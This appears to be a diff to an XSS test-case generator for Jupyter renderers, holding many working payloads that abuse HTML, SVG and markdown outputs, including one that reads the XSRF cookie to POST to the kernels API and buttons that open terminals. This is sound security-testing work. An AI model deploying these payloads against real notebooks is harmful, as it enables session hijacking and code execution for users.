@@ -119,8 +119,8 @@ def html_cases():
         ("img-srcset-onerror-01", "own: srcset", '<img srcset="x 1x, y 2x" onerror="{p}">'),
         ("picture-source-onerror-01", "own: picture/source", '<picture><source srcset="x"><img src="y" onerror="{p}"></picture>'),
         ("input-image-onerror-01", PS + "input type=image onerror", '<input type="image" src="x" onerror="{p}">'),
-        ("svg-onload-01", PS + "svg onload", '<svg onload="{p}"></svg>'),
-        ("svg-onload-slash-01", PS + "svg/onload", "<svg/onload={p}>"),
+        ("svg-onload-01", "NOT-RAW: svg onload fires only when parsed with the document (nbconvert HTML export, nbviewer), not via innerHTML: " + PS + "svg onload", '<svg onload="{p}"></svg>'),
+        ("svg-onload-slash-01", "NOT-RAW: as svg-onload-01: " + PS + "svg/onload", "<svg/onload={p}>"),
         ("svg-image-onerror-01", "own: svg image onerror", '<svg><image href="x" onerror="{p}"/></svg>'),
         ("svg-image-xlink-onerror-01", "own: svg image xlink:href onerror", '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="x" onerror="{p}"/></svg>'),
         ("iframe-onload-01", PS + "iframe onload", '<iframe onload="{p}"></iframe>'),
@@ -159,14 +159,14 @@ def html_cases():
         ("svg-set-onbegin-01", PS + "svg set onbegin", '<svg><set onbegin="{p}" attributeName="x" to="1"/></svg>'),
         ("svg-animatetransform-onbegin-01", "own: animateTransform onbegin", '<svg><animateTransform onbegin="{p}" attributeName="transform" type="rotate" from="0" to="1" dur="1s"/></svg>'),
         ("svg-animatemotion-onbegin-01", "own: animateMotion onbegin", '<svg><animateMotion onbegin="{p}" path="M0,0 L1,1" dur="1s"/></svg>'),
-        ("svg-discard-onbegin-01", PS + "svg discard onbegin", '<svg><discard onbegin="{p}"/></svg>'),
+        ("svg-discard-onbegin-01", "NOT-RAW in current Chromium: " + PS + "svg discard onbegin", '<svg><discard onbegin="{p}"/></svg>'),
         ("svg-animate-onend-01", "own: svg animate onend", '<svg><animate onend="{p}" attributeName="x" dur="0.05s"/></svg>'),
         ("svg-animate-onrepeat-01", "own: svg animate onrepeat", '<svg><animate onrepeat="{p}" attributeName="x" dur="0.05s" repeatCount="3"/></svg>'),
         ("svg-anim-css-01", "own: CSS animation event on an SVG element",
          '<svg><style>@keyframes nbgs{{to{{opacity:.5}}}}</style><rect width="10" height="10" style="animation:nbgs 0.1s" onanimationstart="{p}"/></svg>'),
         ("scroll-focus-01", "own: onscroll fired when focusing scrolls a container",
          '<div style="height:30px;overflow:auto" onscroll="{p}"><div style="height:300px"></div><input id="nbg-scroll-target"></div>'),
-        ("marquee-onstart-01", PS + "marquee onstart", '<marquee onstart="{p}">m</marquee>'),
+        ("marquee-onstart-01", "NOT-RAW in current Chromium (Firefox only): " + PS + "marquee onstart", '<marquee onstart="{p}">m</marquee>'),
         ("body-onload-in-svg-foreign-01", "own: foreignObject body onload", '<svg><foreignObject><iframe onload="{p}"></iframe></foreignObject></svg>'),
         ("img-onerror-alert-01", "classic: img onerror alert", "<img src=x onerror=alert(1)>"),
         ("img-onerror-fetch-01", "own: onerror doing a credentialed API request",
@@ -192,8 +192,8 @@ def html_cases():
         ("hover-table-cell-01", "own: handler on a td inside a data table", '<table><tr><th>a</th></tr><tr><td onmouseover="{p}">1</td></tr></table>'),
         ("hover-transition-01", "own: ontransitionend triggered by :hover",
          '<style>.nbgt:hover{{color:red}}</style><div class="nbgt" style="transition:color 0.01s" ontransitionend="{p}">t</div>'),
-        ("hover-transitionrun-01", "own: ontransitionrun triggered by :hover",
-         '<style>.nbgu:hover{{opacity:.5}}</style><div class="nbgu" style="transition:opacity 0.2s" ontransitionrun="{p}">t</div>'),
+        ("hover-transitionstart-01", "own: ontransitionstart triggered by :hover",
+         '<style>.nbgu:hover{{opacity:.5}}</style><div class="nbgu" style="transition:opacity 0.01s" ontransitionstart="{p}">t</div>'),
         ("hover-svg-rect-01", "own: svg rect onmouseover", '<svg width="50" height="50"><rect width="50" height="50" onmouseover="{p}"/></svg>'),
         ("hover-huge-overlay-01", PS + "full-page invisible overlay onmouseover",
          '<div style="position:fixed;left:0;top:0;width:100%;height:100%;z-index:9999" onmouseover="{p}"></div>'),
@@ -207,14 +207,14 @@ def html_cases():
         ("click-form-onsubmit-01", "own: form onsubmit", '<form onsubmit="{p};return false"><button>Send</button></form>'),
         ("click-form-onreset-01", "own: form onreset", '<form onreset="{p}"><button type="reset">Reset</button></form>'),
         ("click-form-oninvalid-01", "own: oninvalid on a required field", '<form><input required oninvalid="{p}"><button>Go</button></form>'),
-        ("click-form-onformdata-01", "own: form onformdata", '<form onformdata="{p}" onsubmit="return false"><input name="a"><button>Go</button></form>'),
+        ("click-form-onformdata-01", "own: form onformdata", '<form onformdata="{p}" target="nbgsink2"><input name="a"><button>Go</button></form><iframe name="nbgsink2" style="display:none"></iframe>'),
         ("click-dialog-onclose-01", "own: dialog onclose via method=dialog", '<dialog open onclose="{p}"><form method="dialog"><button>OK</button></form></dialog>'),
         ("click-popover-beforetoggle-01", PS + "popover onbeforetoggle", '<button popovertarget="nbgpop">open</button><div popover id="nbgpop" onbeforetoggle="{p}">p</div>'),
         ("click-popover-toggle-01", "own: popover ontoggle", '<button popovertarget="nbgpop2">open</button><div popover id="nbgpop2" ontoggle="{p}">p</div>'),
         ("focus-onblur-01", "own: onblur (focus moves on)", '<input onblur="{p}"><input>'),
         ("focus-button-onfocus-01", "own: button onfocus", '<button onfocus="{p}">f</button>'),
         ("click-label-for-01", "own: label for a hidden checkbox", '<label for="nbgchk">label</label><input id="nbgchk" type="checkbox" onclick="{p}">'),
-        ("click-select-01", "own: onselectstart via click on text", '<p onselectstart="{p}">select me</p>'),
+        ("click-label-onpointerdown-01", "own: onpointerdown on a label", '<label onpointerdown="{p}">press</label>'),
     ]
     for cid, src, tpl in gest:
         c.add(cid, src, (lambda t: lambda i: t.format(p=P(i)))(tpl))
@@ -245,8 +245,8 @@ def html_cases():
           lambda i: '<form id="nbgf1"></form><button form="nbgf1" formaction="%s">go</button>' % js(i))
     c.add("jsurl-form-action-post-01", "own: form method=post action javascript:",
           lambda i: '<form method="post" action="%s"><button>go</button></form>' % js(i))
-    c.add("jsurl-object-data-01", "own: object data javascript:", lambda i: '<object data="%s"></object>' % js(i))
-    c.add("jsurl-embed-src-01", "own: embed src javascript:", lambda i: '<embed src="%s">' % js(i))
+    c.add("jsurl-object-data-01", "NOT-RAW in Chromium (old browsers): object data javascript:", lambda i: '<object data="%s"></object>' % js(i))
+    c.add("jsurl-embed-src-01", "NOT-RAW in Chromium (old browsers): embed src javascript:", lambda i: '<embed src="%s">' % js(i))
     c.add("jsurl-svg-a-xlink-01", PS + "svg a xlink:href javascript: (JupyterLab skips SVG anchors)",
           lambda i: '<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="30"><a xlink:href="%s"><text x="5" y="20">click</text></a></svg>' % js(i))
     c.add("jsurl-svg-a-href-01", "own: svg a href javascript:",
@@ -363,7 +363,6 @@ def html_cases():
         ("parser-comment-short-01", "comment trick: <!--> empty comment", '<!--><img src=x onerror={q}>-->'),
         ("parser-pi-01", "bogus comment: processing instruction ends at first >", '<? x="><img src=x onerror={q}>">'),
         ("parser-cdata-01", "bogus comment: CDATA in HTML content", '<![CDATA[><img src=x onerror={q}>]]>'),
-        ("parser-endtag-attr-01", "bogus: end tag with attributes", '</x title="><img src=x onerror={q}>">'),
         ("parser-doctype-01", "own: doctype in the middle", '<!DOCTYPE html><img src=x onerror={q}>'),
         ("parser-double-lt-01", "malformed: <<img", '<<img src=x onerror={q}>'),
         ("parser-slash-sep-01", "malformed: slashes as attribute separators", '<img/src="x"/onerror={q}>'),
@@ -376,7 +375,7 @@ def html_cases():
         ("parser-nul-in-text-01", "unicode: NUL between tags", '\u0000<img\u0020src=x onerror={q}>'),
         ("parser-zwsp-01", "unicode: zero width space before tag", '\u200b<img src=x onerror={q}>'),
         ("parser-fullwidth-text-01", "unicode: full-width characters in surrounding text", '＜x＞<img src=x onerror={q}>'),
-        ("parser-template-shadow-01", "own: declarative shadow DOM template", '<div><template shadowrootmode="open"><img src=x onerror={q}></template></div>'),
+        ("parser-template-shadow-01", "NOT-RAW via innerHTML (declarative shadow DOM needs setHTMLUnsafe/parser): template shadowrootmode", '<div><template shadowrootmode="open"><img src=x onerror={q}></template></div>'),
         ("parser-deep-nesting-01", "own: 700 nested divs then a payload", "<div>" * 700 + '<img src=x onerror={q}>' + "</div>" * 700),
         ("parser-long-attr-01", "own: 200k-character attribute before the handler", '<img title="' + "A" * 200000 + '" src=x onerror={q}>'),
         ("parser-many-attrs-01", "own: 500 attributes before the handler", "<img " + " ".join("data-a%d=1" % k for k in range(500)) + " src=x onerror={q}>"),
@@ -397,7 +396,7 @@ def html_cases():
          '<form><math><mtext></form><form><mglyph><style></math><img src onerror={p}>'),
         ("mxss-svg-style-comment-01", "NOT-RAW: svg style comment round trip",
          '<svg><style><!--</style><img src=x onerror={p}>--></style></svg>'),
-        ("mxss-noscript-serialize-01", "NOT-RAW: noscript parsed with scripting disabled by a server-side parser",
+        ("mxss-noscript-serialize-01", "mXSS: noscript parsed with scripting disabled by a server-side parser (raw text for the browser)",
          '<noscript><style></noscript><img src=x onerror={p}></style></noscript>'),
     ]
     for cid, src, tpl in mx:
@@ -421,7 +420,7 @@ SVG_PAYLOADS = [
     ("onload", "svg root onload", '<svg xmlns="http://www.w3.org/2000/svg" onload="{p}"><rect width="10" height="10"/></svg>'),
     ("script", "svg script element", '<svg xmlns="http://www.w3.org/2000/svg"><script>{p}</script></svg>'),
     ("script-cdata", "svg script with CDATA", '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{p}]]></script></svg>'),
-    ("script-xlink", "svg script xlink:href data:", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="data:text/javascript,{pu}"/></svg>'),
+    ("script-xlink", "svg script xlink:href data: (inline: JupyterLab re-creates it as an HTML script without src)", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="data:text/javascript,{pu}"/></svg>'),
     ("image-onerror", "svg image onerror", '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="{p}"/></svg>'),
     ("animate-onbegin", "animate onbegin", '<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="{p}" attributeName="x" dur="1s"/></svg>'),
     ("set-onbegin", "set onbegin", '<svg xmlns="http://www.w3.org/2000/svg"><set onbegin="{p}" attributeName="x" to="1"/></svg>'),
@@ -441,7 +440,7 @@ SVG_PAYLOADS = [
     ("title-breakout", "text in title containing markup (XML parsed, no breakout) plus handler", '<svg xmlns="http://www.w3.org/2000/svg"><title>&lt;img src=x onerror=alert(1)&gt;</title><image href="y" onerror="{p}"/></svg>'),
     ("entity-decl", "XML entity declared in DOCTYPE used in a handler", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY nbg "{p}">]><svg xmlns="http://www.w3.org/2000/svg" onload="&nbg;"/>'),
     ("xml-stylesheet", "xml-stylesheet PI with javascript: (historic)", '<?xml-stylesheet href="javascript:{p}"?><svg xmlns="http://www.w3.org/2000/svg" onload="{p}"/>'),
-    ("handler-entities", "entity-encoded handler", '<svg xmlns="http://www.w3.org/2000/svg" onload="&#116;&#111;&#112;.__nbgPwn(&#39;{i}&#39;)"/>'),
+    ("handler-entities", "entity-encoded handler", '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="&#116;&#111;&#112;.__nbgPwn(&#39;{i}&#39;)"/></svg>'),
     ("a-javascript-upper", "a href JAVASCRIPT: with tab (click)", '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="30"><a href="JAVA&#9;SCRIPT:{p}"><rect width="100" height="30"/></a></svg>'),
 ]
 
@@ -460,9 +459,10 @@ def svg_cases():
               "NOT-RAW in JupyterLab (image/svg+xml is shown as <img>); classic Notebook/nbclassic inline SVG: " + desc,
               (lambda t: lambda i: {"image/svg+xml": fill_svg(t, i), "text/plain": "<Figure>"})(tpl))
     for name, desc, tpl in SVG_PAYLOADS:
-        if name in ("entity-decl", "xml-stylesheet"):
-            continue  # XML-only constructs: inert in the HTML parser
-        c.add("inline-html-%s-01" % name, "inline SVG inside text/html: " + desc,
+        if name in ("entity-decl", "xml-stylesheet", "onload", "discard-onbegin"):
+            continue  # XML-only constructs or events that do not fire for innerHTML-inserted SVG
+        pre = "NOT-RAW in Chromium: " if name in ("script-xlink", "use-data-url") else ""
+        c.add("inline-html-%s-01" % name, pre + "inline SVG inside text/html: " + desc,
               (lambda t: lambda i: {"text/html": fill_svg(t, i)})(tpl))
     return c
 
@@ -478,11 +478,11 @@ def markdown_cases():
         ("raw-script-blankline-01", "HTML block type 1 spans blank lines", 'Intro\n\n<script>\n\n{p}\n\n</script>'),
         ("raw-div-block-01", "HTML block type 6 (<div>) with handler", '<div onmouseover="{p}">\n\nhover *me*\n\n</div>'),
         ("raw-details-01", "details ontoggle block", '<details open ontoggle="{p}">\n<summary>More</summary>\n\ntext\n</details>'),
-        ("raw-svg-onload-01", "inline svg in markdown", 'Chart: <svg onload="{p}"></svg>'),
+        ("raw-svg-onload-01", "inline svg in markdown", 'Chart: <svg><animate onbegin="{p}" attributeName="x" dur="1s"/></svg>'),
         ("raw-iframe-src-01", "iframe javascript: in markdown", '<iframe src="javascript:{p}"></iframe>'),
         ("raw-iframe-srcdoc-01", "iframe srcdoc in markdown", '<iframe srcdoc="&lt;script&gt;{p}&lt;/script&gt;"></iframe>'),
         ("list-img-01", "raw HTML inside a list item", '- item one\n- item <img src=x onerror="{p}">\n- item three'),
-        ("ordered-list-01", "raw HTML inside an ordered list", '1. first\n2. <svg onload="{p}"></svg>'),
+        ("ordered-list-01", "raw HTML inside an ordered list", '1. first\n2. <img src=x onerror="{p}">'),
         ("nested-list-01", "raw HTML in a nested list", '- a\n  - b\n    - <img src=x onerror="{p}">'),
         ("table-cell-01", "GFM table cell with raw HTML", '| a | b |\n|---|---|\n| 1 | <img src=x onerror="{p}"> |'),
         ("table-header-01", "GFM table header with raw HTML", '| <img src=x onerror="{p}"> | b |\n|---|---|\n| 1 | 2 |'),
@@ -491,7 +491,7 @@ def markdown_cases():
         ("heading-01", "raw HTML in a heading", '## Results <img src=x onerror="{p}">'),
         ("setext-heading-01", "raw HTML in a setext heading", 'Results <img src=x onerror="{p}">\n======='),
         ("emphasis-01", "raw HTML inside emphasis", '*emphasis <img src=x onerror="{p}">*'),
-        ("strong-01", "raw HTML inside strong", '**bold <svg onload="{p}"></svg>**'),
+        ("strong-01", "raw HTML inside strong", '**bold <img src=x onerror="{p}">**'),
         ("link-text-01", "raw HTML inside link text", '[<img src=x onerror="{p}">](https://example.org)'),
         ("footnote-like-01", "raw HTML after a reference definition", '[ref]: https://example.org\n\nsee [ref] <img src=x onerror="{p}">'),
         ("refdef-title-01", "reference definition with raw HTML in following paragraph title", '[a]: https://example.org "title"\n\n[a]\n<img src=x onerror="{p}">'),
@@ -504,15 +504,15 @@ def markdown_cases():
         ("lazy-continuation-01", "lazy paragraph continuation with 4-space indent (not code)", 'text\n    <img src=x onerror="{p}">'),
         ("list-indent-01", "indentation inside list item (HTML, not code)", '- a\n\n     <img src=x onerror="{p}">'),
         ("tab-indent-list-01", "tab indentation inside list items", '-\ta\n\n\t<img src=x onerror="{p}">'),
-        ("fence-backtick-info-01", "backtick fence whose info string has a backtick is not a fence", '``` a`b\n<img src=x onerror="{p}">\n```'),
+        ("fence-backtick-info-01", "NOT-RAW: differential (marked sees a code fence, CommonMark does not: a backtick fence whose info string has a backtick is not a fence)", '``` a`b\n<img src=x onerror="{p}">\n```'),
         ("fence-unclosed-tilde-01", "text after a closed tilde fence", '~~~\ncode\n~~~\n<img src=x onerror="{p}">'),
-        ("code-span-escape-01", "unbalanced backticks around raw HTML", '`` ` <img src=x onerror="{p}"> ` ``x` <svg onload="{p}"></svg>'),
+        ("code-span-escape-01", "unbalanced backticks around raw HTML", '`` ` <img src=x onerror="{p}"> ` ``x` <img src=y onerror="{p}">'),
         ("backslash-escape-01", "backslash before a tag only escapes the <", 'x \\<b> <img src=x onerror="{p}">'),
         ("entity-then-tag-01", "entities and raw tags mixed", '&lt;b&gt; <img src=x onerror="{p}">'),
         ("multiline-tag-01", "inline HTML tag spanning lines", 'a <img\nsrc=x\nonerror="{p}"> b'),
         ("autolink-next-01", "GFM autolink next to raw HTML", 'https://example.org <img src=x onerror="{p}">'),
         ("math-then-html-01", "math followed by raw HTML (removeMath/replaceMath)", 'Energy $E=mc^2$ <img src=x onerror="{p}">'),
-        ("math-display-html-01", "display math followed by raw HTML", '$$\\int_0^1 x\\,dx$$\n\n<svg onload="{p}"></svg>'),
+        ("math-display-html-01", "display math followed by raw HTML", '$$\\int_0^1 x\\,dx$$\n\n<details open ontoggle="{p}"><summary>s</summary></details>'),
         ("dollar-in-attr-01", "dollar signs inside an attribute value (math splitting)", '<img src=x alt="$a$" onerror="{p}"> and $b$'),
         ("html-in-math-01", "NOT-RAW: HTML inside $...$ is escaped by removeMath", '$<img src=x onerror="{p}">$'),
         ("a-target-self-01", "raw anchor with javascript: and target=_self (click)", '<a href="javascript:{p}" target="_self">click here</a>'),
@@ -526,7 +526,7 @@ def markdown_cases():
         ("api-01", "markdown payload making a credentialed API request", '<img src=x onerror="fetch(\'/api/kernels\',{{method:\'POST\',headers:{{\'X-XSRFToken\':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]}}}})">'),
     ]
     for cid, src, tpl in md:
-        c.add(cid, ("NOT-RAW: " + src[10:]) if src.startswith("NOT-RAW: ") else "own: markdown " + src,
+        c.add(cid, ("NOT-RAW: own: markdown " + src[9:]) if src.startswith("NOT-RAW: ") else "own: markdown " + src,
               (lambda t: lambda i: {"text/markdown": t.format(p=P(i))})(tpl))
     links = [
         ("link-js-01", "[x](javascript:...) link", "[click](javascript:{p})"),
@@ -657,16 +657,16 @@ def jupyter_cases():
           lambda i: '<math><mi><form><button formaction="javascript:%s">x</button></form></mi></math>' % P(i))
     c.add("cve-2024-43805-clobber-01", "GHSA-9q39-rmj3-p4r2 / CVE-2024-43805 shape: markdown with id/name attributes clobbering globals, plus a handler",
           lambda i: {"text/markdown": '<img name="getElementById" src="x" onerror="%s">\n\n<form id="jupyter-config-data"></form>' % P(i)})
-    c.add("cve-2024-22421-link-01", "CVE-2024-22421 shape: link to a /files/ path that leaks tokens to a third party (click)",
+    c.add("cve-2024-22421-link-01", "NOT-RAW (needs a third-party redirect): CVE-2024-22421 shape: link to a /files/ path that leaks tokens to a third party (click)",
           '<a href="/files/..%2F..%2Fpwned" target="_self">open</a>')
-    c.add("commandlinker-run-01", "JupyterLab CommandLinker button (data-commandlinker-command) running a JupyterLab command on click",
+    c.add("commandlinker-run-01", "NOT-RAW unless the page wires a CommandLinker (JupyterLab app does): JupyterLab CommandLinker button (data-commandlinker-command) running a JupyterLab command on click",
           '<button data-commandlinker-command="notebook:run-all-cells">Run all</button>')
-    c.add("commandlinker-console-01", "JupyterLab CommandLinker: open a terminal / console",
+    c.add("commandlinker-console-01", "NOT-RAW unless the page wires a CommandLinker (JupyterLab app does): JupyterLab CommandLinker: open a terminal / console",
           '<button data-commandlinker-command="terminal:create-new">Open</button><button data-commandlinker-command="console:create" data-commandlinker-args="{&quot;kernelPreference&quot;:{&quot;name&quot;:&quot;python3&quot;}}">Console</button>')
-    c.add("commandlinker-kernel-01", "JupyterLab CommandLinker: kernel commands",
+    c.add("commandlinker-kernel-01", "NOT-RAW unless the page wires a CommandLinker (JupyterLab app does): JupyterLab CommandLinker: kernel commands",
           '<a data-commandlinker-command="kernelmenu:restart" data-commandlinker-args="{}">restart</a>')
     c.add("nbconvert-cve-2021-32862-svg-01", "CVE-2021-32862 (nbconvert HTML export): SVG output inlined unsanitized",
-          lambda i: {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="%s"/>' % P(i), "text/html": '<svg onload="%s"></svg>' % P(i)})
+          lambda i: {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="%s"/>' % P(i), "text/html": '<svg><image href="x" onerror="%s"/></svg>' % P(i)})
     c.add("nbconvert-cve-2021-32862-alt-01", "CVE-2021-32862 shape: metadata used as an attribute (alt/width) breaking out",
           lambda i: {"image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "text/html": '<img src=x onerror="%s">' % P(i)},
           {"image/png": {"width": "1\" onerror=\"alert(1)", "height": 1}})
